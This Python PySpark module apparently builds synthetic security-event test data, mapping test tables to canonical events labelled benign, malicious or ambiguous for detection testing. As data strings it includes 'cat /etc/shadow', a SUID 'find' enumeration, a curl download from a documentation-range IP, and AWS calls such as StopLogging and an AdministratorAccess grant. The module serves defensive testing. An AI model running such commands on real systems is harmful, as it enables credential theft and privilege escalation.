"""Test tables to canonical events.

Maps ``events.parquet`` to the canonical event with integer arithmetic and concatenation only, so a second
engine reproduces it exactly. ``k`` is the integer in ``props``, ``u`` the user id, ``e`` the event id.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from eventwarden.model import canonical, metadata_struct
from eventwarden.session import prepare

CLOUD_CALLS = ["ListUsers", "ListRoles", "ListPolicies", "GetCallerIdentity", "DescribeInstances"]
ADMIN_PORTS = [22, 443, 445, 3389]
PORT_SERVICES = ["ssh", "https", "smb", "rdp"]
CATEGORIES = ["account", "system", "network", "permission"]
TOOLS = ["whoami", "uname", "netstat", "find"]
ADMIN_POLICY = "arn:aws:iam::aws:policy/AdministratorAccess"


def _pick(options: list, index: Column) -> Column:
    return F.element_at(F.array(*[F.lit(o) for o in options]), (index + 1).cast("int"))


def _text(*parts) -> Column:
    return F.concat(*[F.lit(p) if isinstance(p, str) else p.cast("string") for p in parts])


def read_table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return prepare(spark).read.parquet(f"{sf_dir}/{name}.parquet")


def bridge_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Canonical events over the whole ``events`` table."""
    source = read_table(spark, sf_dir, "events")
    keyed = source.select(
        F.col("event_id").alias("e"),
        F.col("user_id").alias("u"),
        F.col("ts").cast("timestamp").alias("t"),
        F.col("event_type").alias("kind"),
        "value",
        F.get_json_object("props", "$.k").cast("int").alias("k"),
    )
    return to_canonical(keyed)


def to_canonical(keyed: DataFrame) -> DataFrame:
    """Columns ``e, u, t, kind, value, k`` to the canonical event."""
    e, u, k, kind = F.col("e"), F.col("u"), F.col("k"), F.col("kind")
    event_type = (
        F.when((kind == "signup") & (k % 9 == 0), "privilege")
        .when(kind.isin("signup", "error"), "authentication")
        .when(kind == "click", "discovery")
        .when((kind == "view") & (k % 25 == 1), "account")
        .when((kind == "view") & (k % 25 == 2), "service")
        .when(kind == "view", "file")
        .when(k < 30, "cloud_audit")
        .otherwise("network")
    )
    df = keyed.withColumn("event_type", event_type)
    is_type = lambda *names: F.col("event_type").isin(*names)
    auth, priv, disc = is_type("authentication"), is_type("privilege"), is_type("discovery")
    acct, svc, file = is_type("account"), is_type("service"), is_type("file")
    cloud, net = is_type("cloud_audit"), is_type("network")

    windows_priv = priv & (k % 2 == 1)
    failed_login = auth & (kind == "error")
    persistence = file & (e % 10 == 0)
    sensitive = file & (e % 10 == 3)
    key_calls = cloud & (k < 10)
    suid = disc & (e % 4 == 3) & (k % 5 == 0)
    shadow = disc & (e % 4 == 0) & (k % 10 == 1)
    download = disc & (e % 4 == 2) & (k % 8 == 2)
    internal = k < 70
    admin_port = net & (e % 4 != 1)

    action = (
        F.when(windows_priv, "special_privileges_assigned")
        .when(priv, "sudo")
        .when(auth, "login")
        .when(disc, "exec")
        .when(file, "modify")
        .when(acct, _pick(["account_created", "group_member_added", "password_changed"], e % 3))
        .when(svc, F.when(e % 2 == 0, "service_installed").otherwise("service_started"))
        .when(cloud & (k == 2), "AttachUserPolicy")
        .when(cloud & (k == 1), "StopLogging")
        .when(key_calls, "CreateAccessKey")
        .when(cloud, _pick(CLOUD_CALLS, e % 5))
        .otherwise("allow")
    )
    status = F.when((kind == "error") | ((kind == "purchase") & (k % 7 == 0)), "failure").otherwise("success")
    user = F.when(e % 97 == 0, None).when(e % 11 == 0, _text("USER-", u)).otherwise(_text("user-", u))
    host = F.when(~cloud, _text("HOST-", k % 20))
    source_ip = F.when(internal, _text("10.20.", u % 8, ".", k)).otherwise(_text("203.0.113.", k))
    process = F.when(disc, _pick(TOOLS, e % 4))
    command = (
        F.when(suid, "find / -perm -4000 -type f")
        .when(shadow, "cat /etc/shadow")
        .when(download, _text("curl http://203.0.113.", k, "/t.tgz"))
        .when(disc, _text(_pick(TOOLS, e % 4), " -a"))
    )
    path = (
        F.when(persistence & (k % 2 == 0), _text("/etc/cron.d/job-", k))
        .when(persistence, _text("/etc/systemd/system/unit-", k, ".service"))
        .when(sensitive, "/etc/shadow")
        .when(file, _text("/srv/data/file-", k))
    )
    sources = (
        F.when(auth | acct | (priv & ~windows_priv), "linux_auth")
        .when(windows_priv | svc, "windows_security")
        .when(disc, "edr_process")
        .when(file, "file_integrity")
        .when(cloud, "cloud_audit")
        .otherwise("network_flow")
    )
    metadata = metadata_struct(
        discovery_category=F.when(disc, _pick(CATEGORIES, e % 4)),
        argument_indicators=(
            F.when(suid, F.array(F.lit("suid_enumeration")))
            .when(shadow, F.array(F.lit("credential_file_access")))
            .when(download, F.array(F.lit("remote_download")))
        ),
        elevated=F.when(priv, True),
        windows_event_id=F.when(windows_priv, 4672).when(svc & (e % 2 == 0), 7045),
        privileges=F.when(
            windows_priv,
            F.when(e % 3 == 0, F.array(F.lit("SeDebugPrivilege"), F.lit("SeChangeNotifyPrivilege")))
            .otherwise(F.array(F.lit("SeChangeNotifyPrivilege"))),
        ),
        uid_zero=F.when(acct & (e % 3 == 0), e % 2 == 0),
        group=F.when(acct & (e % 3 == 1), F.when(e % 2 == 0, "sudo").otherwise("developers")),
        privileged_group=F.when(acct & (e % 3 == 1), e % 2 == 0),
        persistence_path=F.when(persistence, True),
        persistence_mechanism=F.when(persistence, F.when(k % 2 == 0, "cron").otherwise("systemd_service")),
        sensitive_file=F.when(sensitive, True),
        setuid=F.when(file & (e % 50 == 7), True),
        auth_method=F.when(auth, "password"),
        service=F.when(auth, "ssh").when(net, _pick(PORT_SERVICES, e % 4)),
        failure_reason=F.when(failed_login, F.when(e % 2 == 0, "bad_password").otherwise("user_does_not_exist")),
        invalid_user=F.when(failed_login, e % 2 == 1),
        remote_admin_protocol=F.when(admin_port, True),
        source_is_private=F.when(net, internal),
        internal_lateral_candidate=F.when(admin_port & internal, True),
        api_call=F.when(cloud, action),
        iam_category=(
            F.when(cloud & (k == 2), "privilege_grant").when(cloud & (k == 1), "defense_evasion")
            .when(key_calls, "credential_creation")
        ),
        iam_risk=F.when(cloud & k.isin(1, 2), "critical").when(key_calls, "high"),
        policy=F.when(cloud & (k == 2), F.when(e % 2 == 0, ADMIN_POLICY).otherwise("ReadOnlyAccess")),
        high_risk_policy=F.when(cloud & (k == 2), e % 2 == 0),
        cloud_discovery=F.when(cloud & ~key_calls, True),
        read_only=F.when(cloud, ~key_calls),
        mfa_authenticated=F.when(cloud, e % 3 != 0),
        identity_type=F.when(cloud, "IAMUser"),
        error_code=F.when(cloud & (k % 7 == 0), "AccessDenied"),
    )
    label = F.when(e % 23 == 0, "malicious").when(e % 29 == 0, "ambiguous").otherwise("benign")
    return canonical(df, {
        "event_id": _text("EVT-", e),
        "timestamp": F.col("t"),
        "ingested_at": F.col("t"),
        "event_type": F.col("event_type"),
        "source": sources,
        "host": host,
        "user": user,
        "source_ip": source_ip,
        "destination_ip": F.when(net, _text("10.20.7.", k % 50)),
        "destination_port": F.when(net, _pick(ADMIN_PORTS, e % 4)),
        "protocol": F.when(net, "tcp"),
        "bytes_out": F.when(net, F.floor(F.col("value") * 100000).cast("bigint")),
        "process": process,
        "command_line": command,
        "file_path": path,
        "file_hash": F.when(file & (e % 200 == 0), F.lit("c" * 64)),
        "cloud_provider": F.when(cloud, "aws"),
        "cloud_account": F.when(cloud, _text("acct-", u % 3)),
        "cloud_service": F.when(cloud, "iam"),
        "cloud_resource": F.when(key_calls, _text("key/", u)),
        "cloud_region": F.when(cloud, F.when(u % 2 == 0, "us-east-1").otherwise("eu-west-1")),
        "action": action,
        "status": status,
        "metadata": metadata,
        "label": label,
        "label_scenario": _text(label, "-", u % 5),
        "is_demo": F.lit(False),
    })
